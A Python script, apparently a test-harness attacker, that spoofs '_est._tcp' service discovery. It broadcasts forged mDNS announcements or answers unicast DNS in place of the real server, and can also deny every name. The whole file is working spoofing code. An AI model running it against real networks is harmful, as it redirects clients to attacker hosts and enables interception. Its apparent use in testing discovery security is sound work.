#!/usr/bin/python3
"""An attacker's DNS: announces service instances by mDNS beside the real ones,
or answers unicast DNS in place of the network's server.

    attacker_dns.py mdns INTERFACE SPEC.json
    attacker_dns.py unicast ADDRESS SPEC.json

The specification: {"domain": "local", "instances": [{"name", "host", "port",
"addresses": [...], "txt": [...], "ttl": 120}]}; without instances everything is
denied. It ends by SIGTERM and prints a line for each question that it gets.
"""

import ipaddress
import json
import selectors
import socket
import struct
import sys

SERVICE = "_est._tcp"
TYPES = {"A": 1, "PTR": 12, "TXT": 16, "AAAA": 28, "SRV": 33}
MDNS_PORT = 5353
GROUP4, GROUP6 = "224.0.0.251", "ff02::fb"
REPEAT_S = 0.5


def name_wire(labels):
    return b"".join(
        bytes([len(b)]) + b for b in (x.encode() for x in labels)) + b"\0"


class Zone:
    """Records by owner's name and type."""

    def __init__(self, spec):
        self.domain = spec["domain"].split(".")
        self.service = SERVICE.split(".") + self.domain
        self.instances = [self.records(x) for x in spec["instances"]]

    def records(self, instance):
        """The records of one instance: (owner, type, ttl, data)."""
        ttl = instance.get("ttl", 120)
        owner = [instance["name"]] + self.service
        host = [instance["host"]] + self.domain
        txt = b"".join(bytes([len(t)]) + t.encode()
                       for t in instance.get("txt", [])) or b"\0"
        found = [
            (self.service, "PTR", ttl, name_wire(owner)),
            (owner, "SRV", ttl,
             struct.pack("!HHH", 0, 0, instance["port"]) + name_wire(host)),
            (owner, "TXT", ttl, txt),
        ]
        for text in instance["addresses"]:
            ip = ipaddress.ip_address(text)
            kind = "A" if ip.version == 4 else "AAAA"
            found.append((host, kind, ttl, ip.packed))
        return found

    def find(self, owner, number):
        """What a unicast question gets; None for a name that is not there."""
        wire = name_wire(owner).lower()
        named = [r for records in self.instances for r in records
                 if name_wire(r[0]).lower() == wire]
        if not named:
            return None
        return [r for r in named if TYPES[r[1]] == number]


def record_wire(record, flush):
    owner, kind, ttl, data = record
    unique = 0x8000 if flush and kind != "PTR" else 0
    return name_wire(owner) + struct.pack(
        "!HHIH", TYPES[kind], 1 | unique, ttl, len(data)) + data


def question_of(packet):
    """The first question: (labels, type, the bytes)."""
    labels, at = [], 12
    while packet[at]:
        labels.append(packet[at + 1:at + 1 + packet[at]].decode("latin-1"))
        at += 1 + packet[at]
    number = struct.unpack("!H", packet[at + 1:at + 3])[0]
    return labels, number, packet[12:at + 5]


def log(labels, number):
    print("question", ".".join(labels), number, flush=True)


# --- mDNS ---

def socket4(interface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    member = struct.pack("4s4si", socket.inet_aton(GROUP4), bytes(4),
                         socket.if_nametoindex(interface))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", MDNS_PORT))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, member)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    return s, (GROUP4, MDNS_PORT)


def socket6(interface):
    index = socket.if_nametoindex(interface)
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind(("::", MDNS_PORT))
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                 socket.inet_pton(socket.AF_INET6, GROUP6) +
                 struct.pack("i", index))
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    return s, (GROUP6, MDNS_PORT, 0, index)


def announce(s, where, zone):
    for records in zone.instances:
        packet = struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0)
        packet += b"".join(record_wire(r, True) for r in records)
        try:
            s.sendto(packet, where)
        except OSError as error:  # an address that is not there yet
            print("not sent:", error, flush=True)


def serve_mdns(interface, zone):
    """Announces all the time, and at once when anybody asks for the service."""
    selector = selectors.DefaultSelector()
    sockets = [socket4(interface), socket6(interface)]
    for s, where in sockets:
        selector.register(s, selectors.EVENT_READ, where)
    print("ready", flush=True)
    while True:
        events = selector.select(REPEAT_S)
        for key, _ in events:
            packet = key.fileobj.recv(65535)
            if packet[2] & 0x80 or packet[4:6] == b"\0\0":
                continue
            labels, number, _ = question_of(packet)
            log(labels, number)
            if "_est" in labels:
                announce(key.fileobj, key.data, zone)
        if not events:
            for s, where in sockets:
                announce(s, where, zone)


# --- unicast ---

def reply(packet, zone):
    labels, number, question = question_of(packet)
    found = zone.find(labels, number)
    log(labels, number)
    flags = 0x8583 if found is None else 0x8580  # NXDOMAIN or NOERROR
    head = packet[:2] + struct.pack("!HHHHH", flags, 1, len(found or []), 0, 0)
    return head + question + b"".join(
        record_wire(r, False) for r in found or [])


def serve_unicast(address, zone):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.bind((address, 53))
    print("ready", flush=True)
    while True:
        packet, peer = s.recvfrom(65535)
        try:
            s.sendto(reply(packet, zone), peer)
        except (IndexError, struct.error):
            print("not understood", flush=True)


def main():
    if len(sys.argv) != 4 or sys.argv[1] not in ("mdns", "unicast"):
        sys.exit(__doc__)
    with open(sys.argv[3], encoding="utf-8") as f:
        zone = Zone(json.load(f))
    serve = serve_mdns if sys.argv[1] == "mdns" else serve_unicast
    serve(sys.argv[2], zone)


if __name__ == "__main__":
    main()
